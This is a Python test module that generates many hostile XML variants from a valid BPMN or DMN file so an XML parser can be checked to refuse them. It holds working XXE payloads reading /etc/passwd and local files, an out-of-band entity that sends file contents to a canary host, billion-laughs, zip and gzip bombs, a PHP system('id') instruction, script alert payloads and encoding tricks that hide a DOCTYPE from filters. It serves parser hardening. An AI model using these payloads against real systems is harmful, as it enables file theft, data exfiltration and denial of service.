"""XML that means harm, made from a good file of BPMN or DMN (for H4).

After the lists of OWASP (XML Security, XXE Prevention), libxml2's and Expat's past faults, and the encodings that hid
a DOCTYPE from a filter.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import re
import zipfile
import zlib
from dataclasses import dataclass

from tests.hostile.canary import Canary

_XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
EMPTY, BOUND = 'a{0}=""', 'xmlns:n{0}="urn:{0}"'
_XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'


@dataclass(frozen=True)
class Base:
    """A good file, cut open: head is the XML declaration, then root tag, inner content, closing tag."""

    root: str
    inner: str
    tail: str

    @classmethod
    def cut(cls, data: bytes) -> Base:
        """Cut a file of UTF-8 open."""
        text = data.decode().lstrip("\ufeff")
        found = re.search(r"<(?![?!])[^>]*>", text)
        assert found is not None
        closing = text.rindex("</")
        return cls(found[0], text[found.end():closing], text[closing:].rstrip())

    def whole(self, *, prolog: str = "", put: str = "", attribute: str = "", behind: str = "") -> str:
        """The file again, with something before its root, inside it, among the root's attributes, or behind it."""
        root = f"{self.root[:-1]} {attribute}>" if attribute else self.root
        return f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}{root}{put}{self.inner}{self.tail}{behind}'

    def entity(self, subset: str, use: str = "&x;", doctype: str = "d") -> str:
        """The file with a document type, and a reference to what it declares."""
        return self.whole(prolog=f"<!DOCTYPE {doctype} [{subset}]>\n", put=f"<a>{use}</a>")


def attacks(base: Base, canary: Canary) -> dict[str, bytes]:
    """Name → file."""
    found = {
        **_entities(base, canary), **_bombs(base), **_references(base, canary), **_sizes(base), **_tricks(base),
    }  # fmt: skip
    return {**{name: text.encode("utf-8", "surrogatepass") for name, text in found.items()}, **_encoded(base, canary)}


def typed(base: Base, canary: Canary) -> frozenset[str]:
    """Names of the attacks that carry a document type or an entity, in whatever encoding: none may be accepted.

    Whether the text of an entity comes out depends on the settings of the parser; that it may be declared at all is
    what every one of the known attacks began with.
    """
    encoded = {name for name in _encoded(base, canary) if name.startswith(("entity", "document type", "NUL before"))}
    return frozenset({*_entities(base, canary), *_bombs(base), *encoded})


def _entities(base: Base, canary: Canary) -> dict[str, str]:
    file, http, ftp = canary.file.as_uri(), canary.http, canary.ftp
    systems = {
        "file": file, "path": str(canary.file), "http": f"{http}/x", "ftp": f"{ftp}/x", "https": f"https{http[4:]}/x",
        "php": f"php://filter/read=convert.base64-encode/resource={canary.file}", "jar": f"jar:{http}/x.jar!/y",
        "netdoc": f"netdoc:{canary.file}", "gopher": f"gopher{http[4:]}/_x", "data": "data:text/plain,x",
        "device": "/dev/random", "standard input": "file:///dev/stdin", "passwords": "file:///etc/passwd",
    }  # fmt: skip
    found = {f"entity from {name}": base.entity(f'<!ENTITY x SYSTEM "{where}">') for name, where in systems.items()}
    return found | {
        "entity by public name": base.entity(f'<!ENTITY x PUBLIC "-//x" "{http}/x">'),
        "entity in an attribute": base.whole(
            prolog=f'<!DOCTYPE d [<!ENTITY x SYSTEM "{file}">]>', attribute='name="&x;"'),
        "parameter entity": base.entity(f'<!ENTITY % p SYSTEM "{http}/p"> %p;', ""),
        "parameter entity that carries a file away": base.entity(
            f'<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY &#x25; s SYSTEM \'{http}/?%f;\'>">%e;%s;', ""),
        "parameter entity from a local document type": base.entity(
            '<!ENTITY % l SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd"> %l;', ""),
        "unparsed entity": base.entity(f'<!NOTATION n SYSTEM "{http}/n"><!ENTITY x SYSTEM "{file}" NDATA n>', ""),
        "external document type by http": base.whole(prolog=f'<!DOCTYPE d SYSTEM "{http}/d.dtd">'),
        "external document type by ftp": base.whole(prolog=f'<!DOCTYPE d SYSTEM "{ftp}/d.dtd">'),
        "external document type from a file": base.whole(prolog=f'<!DOCTYPE d SYSTEM "{file}">'),
        "external document type by public name": base.whole(prolog=f'<!DOCTYPE d PUBLIC "-//W3C//DTD" "{http}/d">'),
        "document type in lower case": base.whole(prolog=f'<!doctype d SYSTEM "{http}/d.dtd">'),
        "document type broken over lines": base.whole(prolog=f'<!\nDOCTYPE d SYSTEM "{http}/d.dtd">'),
        "document type behind a comment": base.whole(prolog=f'<!-- x --><!DOCTYPE d SYSTEM "{http}/d.dtd">'),
        "document type in the element": base.whole(put=f'<!DOCTYPE d SYSTEM "{http}/d.dtd">'),
        "document type behind the element": base.whole(behind=f'<!DOCTYPE d SYSTEM "{http}/d.dtd">'),
        "document type, empty": base.whole(prolog="<!DOCTYPE d>"),
        "attribute by default": base.entity('<!ATTLIST d x CDATA "y">', ""),
        "conditional section": base.entity(f'<![INCLUDE[<!ENTITY x SYSTEM "{file}">]]>'),
        "entity, standing alone": base.entity(f'<!ENTITY x SYSTEM "{file}">').replace(
            '"UTF-8"?>', '"UTF-8" standalone="yes"?>', 1),
        "entity of HTML": base.whole(put="<a>&nbsp;</a>"),
        "entity that nobody declared": base.whole(put="<a>&x;</a>"),
    }  # fmt: skip


def _bombs(base: Base) -> dict[str, str]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    parameters = "<!ENTITY % p0 'x'>" + "".join(
        f"<!ENTITY % p{n} '{f'&#x25;p{n - 1};' * 9}'>%p{n};" for n in range(1, 9))
    return {
        "billion laughs": base.entity(laughs, "&l9;"),
        "billion laughs in an attribute": base.whole(prolog=f"<!DOCTYPE d [{laughs}]>", attribute='name="&l9;"'),
        "billion laughs by parameters": base.entity(parameters, ""),
        "quadratic blow-up": base.entity(f'<!ENTITY x "{"y" * 50_000}">', "&x;" * 50_000),
        "entity of itself": base.entity('<!ENTITY x "&x;">'),
        "entities of each other": base.entity('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
        "large entity": base.entity(f'<!ENTITY x "{"y" * 900_000}">'),
        "many entities": base.entity("".join(f'<!ENTITY e{n} "y">' for n in range(40_000)), "&e1;"),
    }  # fmt: skip


def _references(base: Base, canary: Canary) -> dict[str, str]:
    file, http = canary.file.as_uri(), canary.http
    return {
        "include of a file": base.whole(put=f'<xi:include {_XI} href="{file}" parse="text"/>'),
        "include of a page": base.whole(put=f'<xi:include {_XI} href="{http}/x.xml"/>'),
        "include with a way out": base.whole(
            put=f'<xi:include {_XI} href="{http}/x"><xi:fallback>'
            f'<xi:include href="{file}"/></xi:fallback></xi:include>'),
        "schema location": base.whole(attribute=f'{_XSI} xsi:schemaLocation="urn:x {http}/x.xsd"')
        if "xmlns:xsi" not in base.root else base.whole(attribute=f'xsi:schemaLocation="urn:x {http}/x.xsd"'),
        "schema without namespace": base.whole(put=f'<a {_XSI} xsi:noNamespaceSchemaLocation="{file}"/>'),
        "style sheet": base.whole(prolog=f'<?xml-stylesheet href="{http}/x.xsl" type="text/xsl"?>'),
        "style sheet within": base.whole(
            put='<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
            f"<xsl:template match='/'><xsl:value-of select=\"document('{file}')\"/></xsl:template></xsl:stylesheet>"),
        "model": base.whole(prolog=f'<?xml-model href="{http}/x.rng"?>'),
        "instruction of PHP": base.whole(put="<?php system('id'); ?>"),
        "instruction behind": base.whole(behind="<?x y?>"),
        "import": base.whole(
            put=f'<import location="{http}/x" locationURI="{http}/x" importType="x" namespace="{http}"/>'),
        "base address": base.whole(attribute=f'xml:base="{http}/"', put='<a href="x"/>'),
        "namespace with an address": base.whole(put=f'<a xmlns="{http}/ns"/>'),
        "catalogue": base.whole(prolog=f'<?oasis-xml-catalog catalog="{http}/catalog.xml"?>'),
    }  # fmt: skip


def _sizes(base: Base) -> dict[str, str]:
    return {
        "a million attributes": base.whole(attribute=_row(EMPTY, 1_000_000)),
        "as many attributes as fit": base.whole(put=f"<a {_row(EMPTY, 80_000)}/>"),
        "61 attributes": base.whole(put=f"<a {_row(EMPTY, 61)}/>"),
        "a hundred thousand deep": "<a>" * 100_000 + "</a>" * 100_000,
        "a hundred thousand deep and never closed": "<a>" * 100_000,
        "51 deep": base.whole(put="<a>" * 51 + "</a>" * 51),
        "as many elements as fit": base.whole(put="<a/>" * 200_000),
        "ten megabytes of text": base.whole(put=f"<a>{'x' * 10_000_000}</a>"),
        "as much text as fits": base.whole(put=f"<a>{'x' * 900_000}</a>"),
        "a long attribute": base.whole(put=f'<a x="{"y" * 900_000}"/>'),
        "a long name": base.whole(put=f"<{'a' * 900_000}/>"),
        "a long namespace": base.whole(put=f'<a xmlns="urn:{"x" * 900_000}"/>'),
        "many namespaces": base.whole(put=f"<a {_row(BOUND, 30_000)}/>"),
        "a long comment": base.whole(put=f"<!--{'x' * 900_000}-->"),
        "many comments": base.whole(put="<!---->" * 120_000),
        "many instructions": base.whole(put="<?a?>" * 150_000),
        "much character data": base.whole(put=f"<a>{'<![CDATA[x]]>' * 60_000}</a>"),
        "many character references": base.whole(put=f"<a>{'&#65;' * 180_000}</a>"),
        "many lines": base.whole(put="\n" * 900_000 + "<broken"),
        "many spaces in a tag": base.whole(put=f"<a{' ' * 900_000}/>"),
        "nothing but brackets": "<" * 900_000,
        "nothing but ampersands": base.whole(put="&" * 900_000),
        "nothing but spaces": " " * 990_000,
        "nothing": "",
        "tags never closed": "<a " * 300_000,
        "quotes never closed": base.whole(put='<a x="' * 150_000),
    }


def _tricks(base: Base) -> dict[str, str]:
    return {
        "xml rebound": base.whole(put='<a xmlns:xml="urn:x"/>'),
        "xmlns rebound": base.whole(put='<a xmlns:xmlns="urn:x"/>'),
        "prefix unbound": base.whole(put="<nobody:a/>"),
        "prefix emptied": base.whole(put='<a xmlns:p=""/>'),
        "prefixes swapped": base.whole(put='<a xmlns:bpmn="urn:x" xmlns:camunda="urn:y"><bpmn:process id="p"/></a>'),
        "attribute twice": base.whole(put='<a x="1" x="2"/>'),
        "attribute twice by two prefixes": base.whole(put='<a xmlns:p="urn:x" xmlns:q="urn:x" p:x="1" q:x="2"/>'),
        "identifier twice": base.whole(put='<a xml:id="x"/><a xml:id="x"/>'),
        "NUL by number": base.whole(put="<a>&#0;</a>"),
        "surrogate by number": base.whole(put="<a>&#xD800;</a>"),
        "number beyond all characters": base.whole(put="<a>&#x7FFFFFFFFFFFFFFF;</a>"),
        "control characters": base.whole(put="<a>\x01\x02\x1b</a>"),
        "characters that are none": base.whole(put="<a>\ufffe\uffff</a>"),
        "letters that turn the text": base.whole(put="<a id='a\u202eb\u200b'>\u2066</a>"),
        "end missing": base.whole()[: -len(base.tail)],
        "end doubled": base.whole(behind=base.tail),
        "two roots": base.whole(behind="<x/>"),
        "text behind": base.whole(behind="x"),
        "elements crossed": base.whole(put="<a><b></a></b>"),
        "brackets in character data": base.whole(put="<a>]]></a>"),
        "dashes in a comment": base.whole(put="<!-- a -- b --->"),
        "version 1.1": base.whole(put="<a>\x85&#1;</a>").replace('version="1.0"', 'version="1.1"', 1),
        "version 9": base.whole().replace('version="1.0"', 'version="9.0"', 1),
        "declaration later": f" {base.whole()}",
        "declaration twice": base.whole(prolog='<?xml version="1.0"?>'),
        "a page of HTML": f"<html><script>alert(1)</script>{base.inner}</html>",
        "a drawing": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
        "JSON": '{"a": 1}',
        "lone surrogates": base.whole(put="<a>\ud800</a>"),
    }


def _encoded(base: Base, canary: Canary) -> dict[str, bytes]:
    harm = base.entity(f'<!ENTITY x SYSTEM "{canary.file.as_uri()}">')
    plain = base.whole()
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("x.bpmn", "x" * 50_000_000)
    found = {f"entity in {name}": _declared(harm, name).encode(name) for name in ("utf-16", "utf-16-le", "utf-16-be",
             "utf-32", "utf-32-be", "utf-7")}  # fmt: skip
    latin = harm.encode("ascii", "xmlcharrefreplace").decode()
    for name in ("cp037", "cp1026", "cp500", "cp273"):
        found[f"entity in EBCDIC {name}"] = _declared(latin, "ebcdic-" + name).encode(name, "replace")
    found |= {f"entity said to be {name}": _declared(latin, name).encode() for name in (
        "UTF-7", "UTF-16", "ISO-10646-UCS-4", "ISO-2022-JP", "HZ-GB-2312", "GBK", "x-user-defined", "", "rot13")}
    doctype, bent = b"<!DOCTYPE", b"\xc0\xbc\xc0\xa1DOCTYPE"
    return found | {
        "document type in long UTF-8": harm.encode().replace(doctype, bent),
        "entity behind two byte order marks": b"\xef\xbb\xbf" * 2 + harm.encode(),
        "entity behind a byte order mark": b"\xef\xbb\xbf" + harm.encode(),
        "byte order mark of UTF-16 before UTF-8": b"\xff\xfe" + plain.encode(),
        "NUL between letters": b"\0".join(bytes([letter]) for letter in harm.encode()),
        "NUL at the end": plain.encode() + b"\0",
        "NUL before a document type": plain.encode() + b"\0<!DOCTYPE d>",
        "Latin-1": _declared("<?xml version='1.0' encoding='UTF-8'?><é/>", "ISO-8859-1").encode("latin-1"),
        "GB18030": _declared("<?xml version='1.0' encoding='UTF-8'?><审/>", "GB18030").encode("gb18030"),
        "broken UTF-8": plain.encode() + b"<!-- \xe5\x8f -->",
        "packed by gzip": gzip.compress(harm.encode()),
        "packed twice by gzip": gzip.compress(gzip.compress(b"x" * 50_000_000)),
        "packed by zlib": zlib.compress(harm.encode()), "packed by bzip2": bz2.compress(harm.encode()),
        "packed by xz": lzma.compress(harm.encode()), "packed by zip": packed.getvalue(),
        "a picture": b"\x89PNG\r\n\x1a\n" + harm.encode(),
    }  # fmt: skip


def _row(form: str, count: int) -> str:
    return " ".join(form.format(number) for number in range(count))


def _declared(text: str, encoding: str) -> str:
    return re.sub(r"(encoding=[\"'])UTF-8", rf"\g<1>{encoding}", text, count=1)
